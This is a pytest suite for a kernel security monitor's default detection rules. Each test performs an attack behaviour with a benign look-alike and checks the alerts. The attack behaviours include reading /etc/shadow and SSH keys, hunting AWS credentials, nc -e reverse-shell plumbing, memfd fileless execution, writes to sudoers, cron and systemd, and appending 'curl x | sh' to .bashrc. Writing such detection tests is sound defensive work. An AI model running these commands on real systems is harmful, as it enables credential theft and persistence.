"""The packaged default ruleset on the real kernel.

One `ringwatch run` with only rules/default.yaml loaded. Each test performs an attack
behaviour for real (as root; attempts that fail, like loading a garbage kernel module,
still make the syscall) and a benign look-alike of it, then checks that the alert came,
attributed to the process that did it and to its parent, and that the look-alike raised
nothing. The look-alike runs first: records reach userspace in order, so once the attack's
alert is out, the look-alike's events have been evaluated too. The last test runs a busy
benign workload (gcc, then the program it built run in /tmp, git, pip into a fresh venv,
python, dpkg) and allows no alert from it but the one it causes on purpose at its end.

The monitor traces one cgroup (sensor.cgroups) that holds this test process and so every
process the tests start: the rules need every open on the host, and on a shared machine
other people's storms would fill the ring buffer. The rules and their evaluation are the
packaged ones, unchanged.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.kernel_util import traced_scope
from tests.monitor_proc import REPO, RunningMonitor, read_jsonl
from tests.scoped_monitor import monitor_on

pytestmark = pytest.mark.kernel

Alert = dict[str, Any]
ACTIONS = Path(__file__).resolve().parent / "default_rules_actions.py"
DEFAULT_RULES = REPO / "rules" / "default.yaml"
MY_COMM = Path("/proc/self/comm").read_text().strip()
# The helper runs under the same interpreter path as pytest: same comm.
HELPER_COMM = MY_COMM
WWW_DATA = 33


class AlertMonitor(RunningMonitor):
    """`ringwatch run` that only writes alerts (stdout): recording every open on a busy
    host to a file would cost more than the rules under test."""

    def command(self) -> list[str]:
        return [sys.executable, "-m", "monitor", "--log-json", "run", "--config", str(self.config_path)]


@pytest.fixture(scope="module")
def scope() -> Iterator[Path]:
    """A cgroup holding this test process, hence everything the tests start.

    The monitor traces only it (sensor.cgroups): on a shared machine, other people's
    storms would otherwise fill the ring buffer (the rules need every open on the host)
    and their processes add alerts. What is traced and how it is judged is unchanged.
    """
    with traced_scope("default-rules") as cg:
        yield cg


@pytest.fixture(scope="module")
def mon(tmp_path_factory: pytest.TempPathFactory, scope: Path) -> Iterator[AlertMonitor]:
    with monitor_on(tmp_path_factory.mktemp("default-rules"), scope, AlertMonitor) as m:
        loaded = m.wait_log("rules_loaded")
        assert loaded["files"] == [str(DEFAULT_RULES)]
        items = yaml.safe_load(DEFAULT_RULES.read_text())
        assert loaded["rules"] == sum(1 for item in items if "rule" in item)
        yield m


# --- helpers ---------------------------------------------------------------------------


def alerts(mon: RunningMonitor) -> list[Alert]:
    return read_jsonl(mon.stdout_path)


def _brief(a: Alert) -> str:
    return f"{a['rule']}: pid={a['process']['pid']} ppid={a['process']['ppid']} {a['output']}"


def wait_alert(mon: RunningMonitor, rule: str, pred: Callable[[Alert], bool], what: str,
               timeout: float = 60) -> Alert:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for a in alerts(mon):
            if a["rule"] == rule and pred(a):
                return a
        assert mon.proc is not None and mon.proc.poll() is None, mon.stderr_path.read_text()[-3000:]
        time.sleep(0.1)
    seen = "\n".join(_brief(a) for a in alerts(mon)[-40:])
    raise AssertionError(f"no {rule!r} alert for {what} within {timeout}s; last alerts:\n{seen}")


def alert_for(mon: RunningMonitor, rule: str, pid: int, **event: Any) -> Alert:
    """The rule's alert for process pid whose event has these field values."""
    def pred(a: Alert) -> bool:
        return a["process"]["pid"] == pid and all(a["event"].get(k) == v for k, v in event.items())
    return wait_alert(mon, rule, pred, f"pid {pid} {event or ''}")


def assert_attributed(a: Alert, pid: int, ppid: int, pname: str) -> None:
    ev = a["event"]
    assert a["process"]["pid"] == ev["proc.pid"] == pid, _brief(a)
    assert a["process"]["ppid"] == ev["proc.ppid"] == ppid, _brief(a)
    assert ev["proc.pname"] == pname, _brief(a)
    assert ev["proc.apid"][:2] == [pid, ppid], _brief(a)
    assert f"pid={pid}" in a["output"] and f"parent={pname}" in a["output"], a["output"]


def assert_no_alerts(mon: RunningMonitor, pids: list[int], why: str) -> None:
    mine = [a for a in alerts(mon) if a["process"]["pid"] in pids]
    assert not mine, f"{why}: unexpected alerts:\n" + "\n".join(_brief(a) for a in mine)


def run(argv: list[str], **kw: Any) -> int:
    """Run a program to completion (its exit status is not the point); its pid."""
    kw.setdefault("stdout", subprocess.DEVNULL)
    kw.setdefault("stderr", subprocess.DEVNULL)
    kw.setdefault("stdin", subprocess.DEVNULL)
    p = subprocess.Popen(argv, **kw)
    p.wait(timeout=60)
    return p.pid


def action(name: str, *args: str, python: str = sys.executable) -> dict[str, Any]:
    """Run a tests/default_rules_actions.py action; its JSON report (pid, ppid, ...)."""
    p = subprocess.Popen([python, str(ACTIONS), name, *args],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    out, err = p.communicate(timeout=60)
    assert p.returncode == 0, f"{name} failed ({p.returncode}): {err}"
    report: dict[str, Any] = json.loads(out)
    report["proc_pid"] = p.pid
    return report


@contextlib.contextmanager
def installed_as(name: str) -> Iterator[Path]:
    """The Python interpreter installed under a system program's name in a private
    directory below /usr/lib/: what a genuine program of that name looks like to the
    default rules (proc.exepath carries the name, in a directory only root writes)."""
    d = Path(f"/usr/lib/ringwatch-test-{uuid.uuid4().hex[:8]}")
    d.mkdir()
    try:
        shutil.copy(os.path.realpath(sys.executable), d / name)
        yield d / name
    finally:
        shutil.rmtree(d, ignore_errors=True)


def me() -> tuple[int, str]:
    return os.getpid(), MY_COMM


class Listener:
    """A TCP server on 127.0.0.1 that accepts and closes every connection."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port: int = self.sock.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            conn.close()

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    srv = Listener()
    yield srv
    srv.close()


@pytest.fixture(scope="module")
def private_dir() -> Iterator[Path]:
    """Root-only scratch outside the world-writable directories (a program run from /tmp
    is itself an alert)."""
    path = Path(f"/run/ringwatch-test-{uuid.uuid4().hex[:8]}")
    path.mkdir(mode=0o700)
    yield path
    shutil.rmtree(path, ignore_errors=True)


# --- credential access -----------------------------------------------------------------


def test_read_sensitive_file_untrusted(mon: AlertMonitor) -> None:
    benign = run(["cat", "/etc/os-release"])
    bad = run(["cat", "/etc/shadow"])
    a = alert_for(mon, "Read sensitive file untrusted", bad, **{"fd.name": "/etc/shadow"})
    assert_attributed(a, bad, *me())
    assert a["event"]["proc.name"] == "cat" and a["event"]["evt.is_open_read"] is True
    assert "file=/etc/shadow" in a["output"]
    assert a["priority"] == "WARNING" and "mitre_credential_access" in a["tags"]
    assert_no_alerts(mon, [benign], "cat /etc/os-release")


def test_directory_traversal_monitored_file_read(mon: AlertMonitor, tmp_path: Path) -> None:
    www = tmp_path / "www" / "html"
    www.mkdir(parents=True)
    (www / "index.html").write_text("hi")
    traversal = f"{www}/" + "../" * 16 + "etc/passwd"
    benign = action("open_read", "/etc/passwd", f"{www}/../html/index.html")
    # A user typing ../ in a shell is not a web application's traversal bug.
    typed = run(["/bin/sh", "-c", f"cat {traversal} >/dev/null; true"])
    bad = action("open_read", traversal)
    assert bad["results"] == [0]
    a = alert_for(mon, "Directory traversal monitored file read", bad["pid"],
                  **{"fd.name": "/etc/passwd", "fd.nameraw": traversal})
    assert_attributed(a, bad["pid"], *me())
    assert_no_alerts(mon, [benign["pid"]], "/etc/passwd without ../, and ../ outside /etc")
    typed_cats = [x for x in alerts(mon) if x["event"].get("proc.ppid") == typed]
    assert not typed_cats, [_brief(x) for x in typed_cats]


def test_search_private_keys_or_passwords(mon: AlertMonitor, tmp_path: Path) -> None:
    d = tmp_path / "home"
    (d / ".ssh").mkdir(parents=True)
    (d / ".ssh" / "id_rsa").write_text("-----BEGIN RSA PRIVATE KEY-----\nxx\n")
    (d / "docs").mkdir()
    (d / "docs" / "notes.txt").write_text("hello password=hunter2\n")
    benign = [run(["find", str(d), "-name", "*.txt"]), run(["grep", "-r", "hello", str(d / "docs")]),
              run(["grep", "-i", "password", str(d / "docs" / "notes.txt")]),  # not a recursive hunt
              # A setting's name is not a password hunt (the benign workflow).
              run(["grep", "-r", "PasswordAuthentication", "/etc/ssh/"])]
    by_find = run(["find", str(d), "-name", "id_rsa"])
    by_header = run(["grep", "-rl", "BEGIN RSA PRIVATE", str(d)])
    by_password = run(["grep", "-ri", "password", str(d)])
    rule = "Search private keys or passwords"
    for pid, name in ((by_find, "find"), (by_header, "grep"), (by_password, "grep")):
        a = alert_for(mon, rule, pid, **{"proc.name": name})
        assert_attributed(a, pid, *me())
    assert_no_alerts(mon, benign, "find *.txt, grep -r hello, grep -i password FILE, "
                                  "grep -r PasswordAuthentication /etc/ssh/")


def test_find_aws_credentials(mon: AlertMonitor, tmp_path: Path) -> None:
    d = tmp_path / "home"
    (d / ".aws").mkdir(parents=True)
    (d / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = x\n")
    (d / ".aws" / "config").write_text("[default]\nregion = eu-west-1\n")
    benign = [run(["find", str(d), "-name", "config"]),
              run(["grep", "-r", "region", str(d / ".aws" / "config")])]
    by_find = run(["find", str(d), "-path", "*/.aws/credentials"])
    by_grep = run(["grep", "-r", "aws_secret_access_key", str(d)])
    for pid in (by_find, by_grep):
        a = alert_for(mon, "Find AWS credentials", pid)
        assert_attributed(a, pid, *me())
    assert_no_alerts(mon, benign, "find -name config, grep -r region")


def test_symlink_and_hardlink_over_sensitive_files(mon: AlertMonitor, tmp_path: Path) -> None:
    plain = tmp_path / "plain"
    plain.write_text("x")
    benign = [run(["ln", "-s", "/etc/os-release", str(tmp_path / "l1")]),
              run(["ln", str(plain), str(tmp_path / "l2")])]
    sym = run(["ln", "-s", "/etc/shadow", str(tmp_path / "l3")])
    hard_link = tmp_path / "l4"
    try:
        hard = run(["ln", "/etc/shadow", str(hard_link)])  # the attempt counts, EXDEV or not
        a = alert_for(mon, "Create symlink over sensitive files", sym, **{"evt.arg.target": "/etc/shadow"})
        assert_attributed(a, sym, *me())
        assert a["event"]["evt.arg.linkpath"] == str(tmp_path / "l3")
        a = alert_for(mon, "Create hardlink over sensitive files", hard, **{"evt.arg.oldpath": "/etc/shadow"})
        assert_attributed(a, hard, *me())
        assert a["event"]["evt.arg.newpath"] == str(hard_link)
    finally:
        hard_link.unlink(missing_ok=True)
    assert_no_alerts(mon, benign, "links to /etc/os-release and a plain file")


# --- execution -------------------------------------------------------------------------


def test_shell_spawned_by_server_process(mon: AlertMonitor, private_dir: Path) -> None:
    nginx = private_dir / "nginx"  # a "web server": bash under nginx's name
    shutil.copy("/bin/bash", nginx)
    pids = private_dir / "pids"
    benign = run(["/bin/sh", "-c", "exit 0"])  # a shell, but started by python
    # The server runs a non-shell first, then a shell that reports its pid; `exit 0` keeps
    # bash from exec'ing the last command in its own place.
    server = subprocess.Popen([str(nginx), "-c", f"/bin/true; /bin/sh -c 'echo $$ > {pids}'; exit 0"])
    assert server.wait(timeout=60) == 0
    shell = int(pids.read_text())
    a = alert_for(mon, "Shell spawned by a server process", shell)
    assert a["event"]["proc.name"] == "sh" and a["event"]["proc.exepath"] == os.path.realpath("/bin/sh")
    assert_attributed(a, shell, server.pid, "nginx")
    assert a["event"]["proc.apid"][2] == os.getpid()
    assert "shell=sh" in a["output"] and "parent=nginx" in a["output"]
    assert_no_alerts(mon, [benign, server.pid], "sh started by python, the server itself")
    # The server's other child (/bin/true) ran before the shell: nothing about it either.
    assert [x["process"]["pid"] for x in alerts(mon) if x["process"]["ppid"] == server.pid] == [shell]


def test_netcat_remote_code_execution(mon: AlertMonitor, listener: Listener) -> None:
    port = str(listener.port)
    benign = run(["nc.traditional", "-z", "-w", "5", "127.0.0.1", port])  # a port check
    bad = run(["nc.traditional", "-w", "5", "-e", "/bin/true", "127.0.0.1", port])
    a = alert_for(mon, "Netcat remote code execution", bad)
    assert_attributed(a, bad, *me())
    assert f"cmdline=nc.traditional -w 5 -e /bin/true 127.0.0.1 {port}" in a["output"]
    assert a["priority"] == "CRITICAL"
    # nc -e hands the connection to the program as its stdio: the reverse-shell plumbing.
    r = alert_for(mon, "Redirect stdout/stdin to network connection", bad)
    assert r["event"]["fd.rport"] == listener.port
    assert_no_alerts(mon, [benign], "nc -z")


def test_redirect_stdio_to_network_connection(mon: AlertMonitor, listener: Listener) -> None:
    benign = action("dup_benign", str(listener.port))
    bad = action("dup_socket_stdio", str(listener.port))
    rule = "Redirect stdout/stdin to network connection"
    pid = bad["pid"]
    for evt_type, newfd in (("dup2", 0), ("dup3", 2)):
        a = alert_for(mon, rule, pid, **{"evt.type": evt_type, "evt.arg.newfd": newfd})
        assert_attributed(a, pid, *me())
        ev = a["event"]
        assert (ev["fd.type"], ev["fd.rip"], ev["fd.rport"]) == ("ipv4", "127.0.0.1", listener.port)
        assert f"connection=127.0.0.1:{listener.port}" in a["output"]
    assert_no_alerts(mon, [benign["pid"]], "TCP socket onto fd 5, unix socket and a file onto stdin")


def test_execution_from_dev_shm_and_temporary_directory(mon: AlertMonitor, tmp_path: Path) -> None:
    shm = Path(f"/dev/shm/rw-test-{uuid.uuid4().hex[:8]}")
    dropped = tmp_path / "payload"
    shutil.copy("/bin/true", dropped)
    try:
        shutil.copy("/bin/true", shm)
        benign = [run(["/bin/true"]), run(["/usr/bin/true"])]
        from_shm = run([str(shm)])
        from_tmp = run([str(dropped)])
        a = alert_for(mon, "Execution from /dev/shm", from_shm, **{"proc.exe": str(shm)})
        assert_attributed(a, from_shm, *me())
        a = alert_for(mon, "Drop and execute new binary", from_tmp, **{"proc.exe": str(dropped)})
        assert_attributed(a, from_tmp, *me())
    finally:
        shm.unlink(missing_ok=True)
    # One alert each: /dev/shm is not also reported as a temporary directory.
    assert [x["rule"] for x in alerts(mon) if x["process"]["pid"] == from_shm] == ["Execution from /dev/shm"]
    assert_no_alerts(mon, benign, "/bin/true and /usr/bin/true")


def syscall_lane_barrier(mon: RunningMonitor) -> None:
    """Return once every syscall record made so far has been judged: the syscall lane is
    in order, so the alert for a later open (cat /etc/shadow) comes after them."""
    alert_for(mon, "Read sensitive file untrusted", run(["cat", "/etc/shadow"]))


@pytest.mark.skipif(shutil.which("gcc") is None, reason="gcc missing: run scripts/setup.sh --test")
def test_drop_and_execute_new_binary(mon: AlertMonitor, tmp_path: Path) -> None:
    """Compiled here and run: a build. Copied, downloaded or written by a script and run: a
    drop, reported with the writer the kernel saw."""
    (tmp_path / "hello.c").write_text('int main(void) { return 0; }\n')
    built, moved = tmp_path / "hello", tmp_path / "hello-renamed"
    subprocess.run(["gcc", "-O0", "-o", str(built), str(tmp_path / "hello.c")], check=True, timeout=120)
    syscall_lane_barrier(mon)  # see below: the linker's writes are through
    benign = [run([str(built)])]
    subprocess.run(["mv", str(built), str(moved)], check=True)  # still the linker's output
    syscall_lane_barrier(mon)
    benign.append(run([str(moved)]))
    by_cp, by_curl, by_python = tmp_path / "by-cp", tmp_path / "by-curl", tmp_path / "by-python"
    subprocess.run(["cp", "/bin/true", str(by_cp)], check=True)
    subprocess.run(["curl", "-s", "-o", str(by_curl), "file:///bin/true"], check=True, timeout=60)
    by_curl.chmod(0o755)
    wrote = action("open_file", "trunc", str(by_python), "")  # python creates the file ...
    with open("/bin/true", "rb") as src, open(by_python, "ab") as dst:  # ... and fills it
        dst.write(src.read())
    by_python.chmod(0o755)
    # The execs travel on the process lane, which the sensor drains before the syscall lane:
    # run them once the writes are through (README, drop and execute). The syscall lane is
    # in order, so an alert on it for a later open is the barrier.
    syscall_lane_barrier(mon)
    rule = "Drop and execute new binary"
    for path, writer in ((by_cp, "/usr/bin/cp"), (by_curl, "/usr/bin/curl")):
        pid = run([str(path)])
        a = alert_for(mon, rule, pid, **{"proc.exepath": str(path)})
        assert_attributed(a, pid, *me())
        assert a["event"]["proc.exe_writer_exepath"] == writer, _brief(a)
        assert 0 <= a["event"]["proc.exe_ino_ctime_duration_proc_start"] < 600 * 10**9
        assert f"writer={Path(writer).name}" in a["output"]
    # The last writer the kernel saw was this test process (pytest's interpreter): its append
    # came after the helper's truncating open.
    pid = run([str(by_python)])
    a = alert_for(mon, rule, pid, **{"proc.exepath": str(by_python)})
    assert a["event"]["proc.exe_writer_pid"] == os.getpid() != wrote["pid"]
    assert a["event"]["proc.exe_writer_exepath"] == os.path.realpath(sys.executable)
    assert_no_alerts(mon, benign, "gcc's output run in place and after a rename")


def test_fileless_execution_via_memfd(mon: AlertMonitor) -> None:
    benign = action("memfd_benign")  # a memfd as scratch memory, and a normal exec
    bad = action("memfd_exec")
    a = alert_for(mon, "Fileless execution via memfd_create", bad["pid"])
    assert a["event"]["proc.is_exe_from_memfd"] is True
    assert a["event"]["evt.type"] == "execveat"
    assert_attributed(a, bad["pid"], bad["ppid"], HELPER_COMM)
    assert a["event"]["proc.apid"][2] == os.getpid()
    assert_no_alerts(mon, [benign["pid"], benign["ppid"], bad["ppid"]], "memfd scratch, exec of /bin/true")


def test_system_user_runs_interactive_shell(mon: AlertMonitor) -> None:
    as_www = ["setpriv", f"--reuid={WWW_DATA}", f"--regid={WWW_DATA}", "--clear-groups"]
    benign = [run([*as_www, "/bin/sh", "-c", "true"]),  # a command, not a session
              run(["/bin/bash"])]  # root's shell
    bad = run([*as_www, "/bin/bash"])  # setpriv execs bash in its place: same pid
    a = alert_for(mon, "System user runs an interactive shell", bad)
    assert_attributed(a, bad, *me())
    assert a["event"]["user.uid"] == WWW_DATA and a["event"]["user.name"] == "www-data"
    assert_no_alerts(mon, benign, "www-data running sh -c, root running bash")


# --- defense evasion and impact -----------------------------------------------------------


def test_clear_log_activities(mon: AlertMonitor) -> None:
    log = Path(f"/var/log/rw-test-{uuid.uuid4().hex[:8]}.log")
    with open(log, "x") as fh:  # O_CREAT|O_EXCL, no O_TRUNC
        fh.write("line 1\n")
    try:
        benign = run(["/bin/sh", "-c", f"echo line 2 >> {log}"])
        bad = run(["/bin/sh", "-c", f": > {log}"])
        a = alert_for(mon, "Clear log activities", bad, **{"fd.name": str(log)})
        assert_attributed(a, bad, *me())
        assert "O_TRUNC" in a["event"]["evt.arg.flags"]
        assert log.read_text() == ""
    finally:
        log.unlink(missing_ok=True)
    assert_no_alerts(mon, [benign], "appending to a log")


def test_remove_bulk_data_from_disk(mon: AlertMonitor, tmp_path: Path) -> None:
    for name in ("a", "b"):
        (tmp_path / name).write_bytes(os.urandom(4096))
    benign = run(["rm", "-f", str(tmp_path / "a")])
    bad = run(["shred", "-u", "-n", "1", str(tmp_path / "b")])
    a = alert_for(mon, "Remove bulk data from disk", bad)
    assert_attributed(a, bad, *me())
    assert not (tmp_path / "b").exists()
    assert_no_alerts(mon, [benign], "rm of one file")


def test_ptrace_attach_and_anti_debug(mon: AlertMonitor) -> None:
    target = subprocess.Popen(["sleep", "60"])
    try:
        benign = action("ptrace_peek", str(target.pid))  # a read-only request, not attached
        attach = action("ptrace_attach", str(target.pid))
        assert attach["ret"] == 0, attach
        traceme = action("ptrace_traceme")
    finally:
        target.kill()
        target.wait()
    a = alert_for(mon, "PTRACE attached to process", attach["pid"], **{"evt.arg.pid": target.pid})
    assert_attributed(a, attach["pid"], *me())
    assert a["event"]["evt.arg.request"] == "PTRACE_ATTACH"
    a = alert_for(mon, "PTRACE anti-debug attempt", traceme["pid"])
    assert_attributed(a, traceme["pid"], traceme["ppid"], HELPER_COMM)
    assert a["event"]["evt.arg.request"] == "PTRACE_TRACEME"
    assert_no_alerts(mon, [benign["pid"], traceme["ppid"]], "PTRACE_PEEKDATA")


# --- persistence and privilege --------------------------------------------------------------


def test_write_below_etc_and_to_sudoers(mon: AlertMonitor, tmp_path: Path) -> None:
    tag = uuid.uuid4().hex[:8]
    etc_file = Path(f"/etc/rw-test-{tag}.conf")
    sudoers_file = Path(f"/etc/sudoers.d/rw-test-{tag}")  # no dot: sudo would read it
    moved = Path(f"/etc/sudoers.d/rw-test-{tag}-mv")
    lookalike = tmp_path / "etc" / "sudoers.d"
    lookalike.mkdir(parents=True)
    staged = Path("/var/tmp") / f"rw-test-{tag}"
    staged.write_text("# ringwatch test, harmless\n")
    made_dir = not sudoers_file.parent.exists()  # no sudo installed: a real write needs it
    if made_dir:
        sudoers_file.parent.mkdir(mode=0o750)
    try:
        benign = [run(["cat", "/etc/os-release"]),
                  run(["/bin/sh", "-c", f"echo '# x' > {lookalike}/rw; true"])]
        etc_w = run(["/bin/sh", "-c", f"echo '# ringwatch test' > {etc_file}"])
        sud_w = run(["/bin/sh", "-c", f"echo '# ringwatch test, harmless' > {sudoers_file}"])
        sud_mv = run(["mv", str(staged), str(moved)])
        a = alert_for(mon, "Write below etc", etc_w, **{"fd.name": str(etc_file)})
        assert_attributed(a, etc_w, *me())
        assert a["priority"] == "ERROR"
        a = alert_for(mon, "Write to sudoers", sud_w, **{"fd.name": str(sudoers_file)})
        assert_attributed(a, sud_w, *me())
        assert a["priority"] == "CRITICAL" and a["event"]["evt.is_open_write"] is True
        a = alert_for(mon, "Write to sudoers", sud_mv, **{"fd.name": str(moved)})
        assert_attributed(a, sud_mv, *me())
        assert a["event"]["evt.type"].startswith("rename")
        assert a["event"]["evt.arg.oldpath"] == str(staged)
    finally:
        for p in (etc_file, sudoers_file, moved, staged):
            p.unlink(missing_ok=True)
        if made_dir:
            sudoers_file.parent.rmdir()
    # The sudoers writes are reported once, by the sudoers rule.
    assert {x["rule"] for x in alerts(mon) if x["process"]["pid"] in (sud_w, sud_mv)} == {"Write to sudoers"}
    assert_no_alerts(mon, benign, "reading /etc, writing a sudoers.d look-alike elsewhere")


def test_kernel_module_injection(mon: AlertMonitor, tmp_path: Path) -> None:
    garbage = tmp_path / "rootkit.ko"
    garbage.write_bytes(b"\x7fELF" + os.urandom(4092))  # not a module: the load fails
    with installed_as("systemd-udevd") as udevd:  # the system's own loader
        benign = action("module_load", str(garbage), python=str(udevd))
    # The same name without the image: prctl(PR_SET_NAME) makes no program trusted.
    renamed = action("module_load", str(garbage), "systemd-udevd")
    bad = action("module_load", str(garbage))
    assert bad["finit"][0] == -1 and bad["init"][0] == -1, bad
    for evt_type in ("finit_module", "init_module"):
        a = alert_for(mon, "Linux kernel module injection", bad["pid"], **{"evt.type": evt_type})
        assert_attributed(a, bad["pid"], *me())
        assert a["event"]["evt.failed"] is True
        a = alert_for(mon, "Linux kernel module injection", renamed["pid"], **{"evt.type": evt_type})
        assert a["event"]["proc.name"] == "systemd-udevd" and a["event"]["proc.is_name_exe"] is False
    assert_no_alerts(mon, [benign["pid"]], "a load by systemd-udevd")


def test_bpf_program_loaded_by_unexpected_process(mon: AlertMonitor) -> None:
    benign = action("bpf_benign")  # BPF_PROG_GET_NEXT_ID, as `bpftool prog list` does
    bad = action("bpf_prog_load")
    a = alert_for(mon, "BPF program loaded by an unexpected process", bad["pid"])
    assert_attributed(a, bad["pid"], *me())
    assert a["event"]["evt.arg.cmd"] == "BPF_PROG_LOAD"
    assert_no_alerts(mon, [benign["pid"]], "BPF_PROG_GET_NEXT_ID")


# --- network ------------------------------------------------------------------------------


def test_packet_socket_created(mon: AlertMonitor) -> None:
    benign = action("inet_socket")
    bad = action("packet_socket")
    a = alert_for(mon, "Packet socket created", bad["pid"])
    assert_attributed(a, bad["pid"], *me())
    assert (a["event"]["evt.arg.domain"], a["event"]["evt.arg.sotype"]) == ("AF_PACKET", "SOCK_RAW")
    assert_no_alerts(mon, [benign["pid"]], "an AF_INET socket")


def test_disallowed_ssh_connection_non_standard_port(mon: AlertMonitor, listener: Listener) -> None:
    opts = ["-F", "/dev/null", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=10"]
    benign = run(["ssh", *opts, "-p", "22", "rwtest@127.0.0.1", "true"])
    bad = run(["ssh", *opts, "-p", str(listener.port), "rwtest@127.0.0.1", "true"])
    a = alert_for(mon, "Disallowed SSH connection on a non-standard port", bad, **{"fd.rport": listener.port})
    assert_attributed(a, bad, *me())
    assert a["event"]["fd.name"] == f"127.0.0.1:{listener.port}"
    assert_no_alerts(mon, [benign], "ssh -p 22")


# --- ATT&CK breadth (issue 14): each behaviour for real, each with a benign look-alike -------


def _home(tmp_path: Path) -> Path:
    """A user's home directory with .ssh, .aws and .kube in it (the rules match by the dotted
    components, wherever the home is)."""
    home = tmp_path / "home"
    for d in (".ssh", ".aws", ".kube", ".config/systemd/user"):
        (home / d).mkdir(parents=True)
    return home


def rules_of(mon: RunningMonitor, pid: int) -> set[str]:
    return {a["rule"] for a in alerts(mon) if a["process"]["pid"] == pid}


def test_read_ssh_private_key(mon: AlertMonitor, tmp_path: Path) -> None:
    home = _home(tmp_path)
    key = home / ".ssh" / "id_ed25519"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n")
    (home / ".ssh" / "id_ed25519.pub").write_text("ssh-ed25519 AAAA test\n")
    link = tmp_path / "innocent.txt"  # a canonical path that leads to the key
    link.symlink_to(key)
    benign = [run(["cat", str(home / ".ssh" / "id_ed25519.pub")]),
              run(["ssh-keygen", "-l", "-f", str(key)])]  # the genuine ssh tool
    bad = run(["cat", str(key)])
    via_link = run(["cat", str(link)])
    rule = "Read SSH private key"
    a = alert_for(mon, rule, bad, **{"fd.name": str(key)})
    assert_attributed(a, bad, *me())
    assert "mitre_credential_access" in a["tags"] and "T1552.004" in a["tags"]
    # Through the symlink: the kernel kept the open for its resolved, dotted path.
    a = alert_for(mon, rule, via_link, **{"fd.name": str(key)})
    assert a["event"]["fd.nameraw"] == str(link) and a["event"]["fd.is_resolved"] is True
    assert_no_alerts(mon, benign, "cat of the public key, ssh-keygen -l of the private key")


def test_read_or_write_another_process_memory(mon: AlertMonitor) -> None:
    target = subprocess.Popen(["sleep", "60"])
    try:
        # Its own maps and memory (through /proc/self, resolved to its pid), another's status.
        benign = action("open_read", "/proc/self/maps", "/proc/self/mem", f"/proc/{target.pid}/status")
        bad = action("open_read", f"/proc/{target.pid}/maps", f"/proc/{target.pid}/mem")
    finally:
        target.kill()
        target.wait()
    assert bad["results"][0] == 0, bad  # reading mem at offset 0 fails (EIO); the open did not
    rule = "Read or write another process's memory"
    for what in ("maps", "mem"):
        a = alert_for(mon, rule, bad["pid"], **{"fd.name": f"/proc/{target.pid}/{what}"})
        assert_attributed(a, bad["pid"], *me())
        assert a["event"]["fd.proc_pid"] == target.pid
    assert_no_alerts(mon, [benign["pid"]], "its own /proc/self/maps and mem, another's status")


def test_read_cloud_credentials(mon: AlertMonitor, tmp_path: Path) -> None:
    home = _home(tmp_path)
    creds = home / ".aws" / "credentials"
    creds.write_text("[default]\naws_secret_access_key = x\n")
    kube = home / ".kube" / "config"
    kube.write_text("apiVersion: v1\n")
    lookalike = tmp_path / "aws" / "credentials"  # not in a dotted directory
    lookalike.parent.mkdir()
    lookalike.write_text("x\n")
    (home / ".aws" / "config").write_text("[default]\nregion = eu-west-1\n")
    benign = [run(["cat", str(lookalike)]), run(["cat", str(home / ".aws" / "config")])]
    bad = [run(["cat", str(creds)]), run(["cp", str(kube), str(tmp_path / "stolen")])]
    for pid, path in zip(bad, (creds, kube), strict=True):
        a = alert_for(mon, "Read cloud credentials", pid, **{"fd.name": str(path)})
        assert_attributed(a, pid, *me())
    assert_no_alerts(mon, benign, "credentials outside a dotted directory, ~/.aws/config")


def test_schedule_cron_jobs(mon: AlertMonitor, tmp_path: Path) -> None:
    job = Path(f"/etc/cron.d/rw-test-{uuid.uuid4().hex[:8]}")
    lookalike = tmp_path / "etc" / "cron.d"
    lookalike.mkdir(parents=True)
    try:
        benign = [run(["cat", "/etc/cron.d/e2scrub_all"]),
                  run(["/bin/sh", "-c", f"echo '# x' > {lookalike}/job"])]
        bad = run(["/bin/sh", "-c", f"echo '# ringwatch test, harmless' > {job}"])
        a = alert_for(mon, "Schedule cron jobs", bad, **{"fd.name": str(job)})
        assert_attributed(a, bad, *me())
        assert "T1053.003" in a["tags"]
    finally:
        job.unlink(missing_ok=True)
    assert rules_of(mon, bad) == {"Schedule cron jobs"}  # not also "Write below etc"
    assert_no_alerts(mon, benign, "reading a cron file, writing a look-alike elsewhere")


def test_create_systemd_unit_and_timer(mon: AlertMonitor, tmp_path: Path) -> None:
    home = _home(tmp_path)
    timer = Path(f"/etc/systemd/system/rw-test-{uuid.uuid4().hex[:8]}.timer")
    user_unit = home / ".config" / "systemd" / "user" / "rw-test.service"
    try:
        benign = [run(["cat", "/lib/systemd/system/systemd-journald.service"]),
                  run(["/bin/sh", "-c", f"echo x > {home}/rw-test.service"])]
        bad = run(["/bin/sh", "-c", f"echo '# ringwatch test' > {timer}"])
        by_python = action("open_file", "create", str(user_unit), "[Service]\n")
        rule = "Create or modify systemd unit or timer"
        a = alert_for(mon, rule, bad, **{"fd.name": str(timer)})
        assert_attributed(a, bad, *me())
        a = alert_for(mon, rule, by_python["pid"], **{"fd.name": str(user_unit)})
        assert_attributed(a, by_python["pid"], *me())
    finally:
        timer.unlink(missing_ok=True)
    assert rules_of(mon, bad) == {rule}
    assert_no_alerts(mon, benign, "reading a unit, a .service file outside the unit dirs")


def test_modify_shell_configuration_file(mon: AlertMonitor, tmp_path: Path) -> None:
    home = _home(tmp_path)
    for rc in (".bashrc", ".profile"):
        (home / rc).write_text("# rc\n")
    benign = [run(["/bin/bash", "-c", f"echo 'alias ll=ls' >> {home}/.bashrc"]),  # a shell
              run(["cat", str(home / ".bashrc")]),
              run(["cp", str(home / ".bashrc"), str(home / "bashrc.bak")])]
    by_python = action("open_file", "append", str(home / ".bashrc"), "curl x | sh\n")
    by_sed = run(["sed", "-i", "s/rc/rc2/", str(home / ".profile")])  # temp file renamed over
    rule = "Modify shell configuration file"
